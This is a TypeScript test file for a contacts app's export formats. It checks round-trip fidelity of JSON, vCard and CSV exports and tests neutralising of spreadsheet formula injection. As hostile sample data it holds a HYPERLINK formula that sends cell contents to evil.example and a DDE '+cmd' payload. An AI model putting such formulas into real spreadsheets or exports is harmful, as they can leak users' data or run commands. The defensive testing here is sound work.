/**
 * Every "Export all" format reads back as the same people, field for field
 * (issue 22): import(export(N people)) == N people, for the JSON backup, the
 * vCard 3.0 file and the contacts CSV. And the CSV neutralises what a
 * spreadsheet would run as a formula (OWASP CSV injection), without changing
 * what comes back.
 */

import { csvParseRows } from 'd3-dsv';
import fc from 'fast-check';
import ICAL from 'ical.js';
import { neutralise, toContactsCsv, unneutralise } from '../../formats/contacts-csv';
import { exportDocument } from '../../formats/export';
import { previewImport } from '../../formats/import';
import { toVCards } from '../../formats/vcard';
import { type IdentityKey, profileKeys } from '../../identity/keys';
import type { Profile } from '../../people/schema';
import { validateProfile } from '../../people/validate';

const base = { id: 'x', name: 'X', identities: { github: [], linkedin: [] } };
const line = (max: number) =>
  fc.oneof(
    fc
      .string({ minLength: 1, maxLength: max, unit: 'grapheme' })
      .filter((s) => validateProfile({ ...base, name: s }).ok),
    // What a Connections.csv can hand us, and a spreadsheet would run.
    fc.constantFrom(
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      "'quoted",
      "'=already",
      'Ada Lovelace',
      'Łukasz 李',
    ),
  );
const url = fc.constantFrom(
  'https://a.example/',
  'http://b.example/x?y=1#z',
  'https://d.example/a,b;c',
  'https://blog.example/ü?x=1,2',
);
const person = fc.record(
  {
    name: line(80),
    headline: line(160),
    bio: fc.oneof(
      fc.string({ minLength: 1, maxLength: 300, unit: 'grapheme' }),
      fc.constant('First; line, with\nsecond\n\nand =1+1'),
    ),
    highlights: fc.array(line(60), { minLength: 1, maxLength: 3 }),
    projects: fc.array(
      fc.record(
        {
          name: line(40),
          description: line(60),
          url,
          repo: fc.constantFrom('ada/engine', 'o/r.s'),
        },
        { requiredKeys: ['name'] },
      ),
      { maxLength: 3 },
    ),
    contact: fc.record(
      {
        email: fc.constantFrom(
          'ada@example.com',
          'søren.4@bücher.example',
          'x.y+z@sub.example.org',
        ),
        website: url,
        links: fc.array(fc.record({ label: line(20), url }), { minLength: 1, maxLength: 3 }),
      },
      { requiredKeys: [] },
    ),
    identities: fc.record({
      github: fc.uniqueArray(fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,11}$/), { maxLength: 2 }),
      linkedin: fc.uniqueArray(
        fc.oneof(
          fc.stringMatching(/^[a-zü0-9-]{3,12}$/),
          fc.constantFrom('олег-smith-42', 'łukasz-李-0407'),
        ),
        { maxLength: 2 },
      ),
    }),
    location: line(40),
  },
  { requiredKeys: ['name', 'projects', 'contact', 'identities'] },
);

/** N valid people with distinct ids and no identity shared between two of them. */
const people = fc.array(person, { minLength: 1, maxLength: 6 }).map((raws) => {
  const seen = new Set<IdentityKey>();
  const valid: Profile[] = [];
  for (const [index, raw] of raws.entries()) {
    const identities = {
      github: raw.identities.github.filter((login) => {
        const [key] = profileKeys({ github: [login], linkedin: [] });
        return key && !seen.has(key) && seen.add(key);
      }),
      linkedin: raw.identities.linkedin.filter((slug) => {
        const [key] = profileKeys({ github: [], linkedin: [slug] });
        return key && !seen.has(key) && seen.add(key);
      }),
    };
    const result = validateProfile({ ...raw, id: `person-${index + 1}`, identities });
    if (result.ok) valid.push(result.value);
  }
  return valid;
});

function reimport(name: string, text: string): Profile[] {
  const result = previewImport(name, text, { existing: [], bundled: [] });
  if (!result.ok) throw new Error(result.error);
  const { preview } = result;
  expect(preview.rejected).toEqual([]);
  expect(preview.leftOut ?? []).toEqual([]);
  return preview.added;
}

describe('import(export(N people)) is the same N people, field for field', () => {
  it.each([
    ['the JSON backup', 'everyone.json', exportDocument],
    ['one vCard 3.0 file', 'everyone.vcf', toVCards],
    ['the contacts CSV', 'everyone.csv', toContactsCsv],
  ] as const)('%s', (_label, fileName, write) => {
    let checked = 0;
    fc.assert(
      fc.property(people, (everyone) => {
        fc.pre(everyone.length > 0);
        expect(reimport(fileName, write(everyone))).toEqual(everyone);
        checked += everyone.length;
      }),
      { numRuns: 150 },
    );
    // The property saw people, not only empty lists it skipped.
    expect(checked).toBeGreaterThan(150);
  });
});

describe('the vCard 3.0 export', () => {
  const ada: Profile = {
    id: 'ada',
    name: 'Ada Lovelace',
    headline: 'Analyst',
    projects: [],
    contact: { email: 'ada@example.com', website: 'https://ada.example/' },
    identities: { github: ['ada'], linkedin: ['ada-l'] },
  };
  it('is vCard 3.0 with the N that 3.0 requires, and ical.js reads it', () => {
    const text = toVCards([
      ada,
      { ...ada, id: 'b', name: 'Łukasz 李', identities: { github: [], linkedin: [] } },
    ]);
    expect(text.match(/^VERSION:3\.0\r$/gm)).toHaveLength(2);
    expect(text).toContain('N:Lovelace;Ada;;;\r\n');
    expect(text).toContain('N:李;Łukasz;;;\r\n');
    expect(text).toContain('URL;TYPE=pref:https://ada.example/\r\n');
    const cards = ICAL.parse(text) as [string, [string, object, string, string][]][];
    expect(cards).toHaveLength(2);
    expect(cards[0]?.[1].find(([name]) => name === 'fn')?.[3]).toBe('Ada Lovelace');
  });
});

describe('the contacts CSV (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("x")', '\'=HYPERLINK("x")'],
    ['+cmd|x', "'+cmd|x"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tTab', "'\tTab"],
    ['\rReturn', "'\rReturn"],
    ["'quoted", "''quoted"],
    ['Ada', 'Ada'],
    ['a=b', 'a=b'],
  ])('writes %j as %j, and reads it back', (value, written) => {
    expect(neutralise(value)).toBe(written);
    expect(unneutralise(neutralise(value))).toBe(value);
  });

  it('no cell of an export starts with a formula character', () => {
    const hostile: Profile = {
      id: 'hostile',
      name: '=HYPERLINK("https://evil.example","x") +cmd',
      headline: '@SUM(1+1)',
      bio: '-2+3',
      location: '+1',
      projects: [],
      contact: { links: [{ label: '=1+1', url: 'https://a.example/' }] },
      identities: { github: [], linkedin: [] },
    };
    const rows = csvParseRows(toContactsCsv([hostile]).replace(/^\uFEFF/, ''));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Positive control: the raw values were there to neutralise.
    expect(rows[1]).toContain('\'=HYPERLINK("https://evil.example","x")');
    expect(reimport('everyone.csv', toContactsCsv([hostile]))).toEqual([hostile]);
  });

  it("uses Google Contacts' own column names", () => {
    const [header] = csvParseRows(toContactsCsv([]).replace(/^\uFEFF/, ''));
    expect(header).toEqual(
      expect.arrayContaining([
        'First Name',
        'Last Name',
        'Organization Title',
        'Notes',
        'E-mail 1 - Value',
        'Website 1 - Label',
        'Website 1 - Value',
      ]),
    );
  });
});
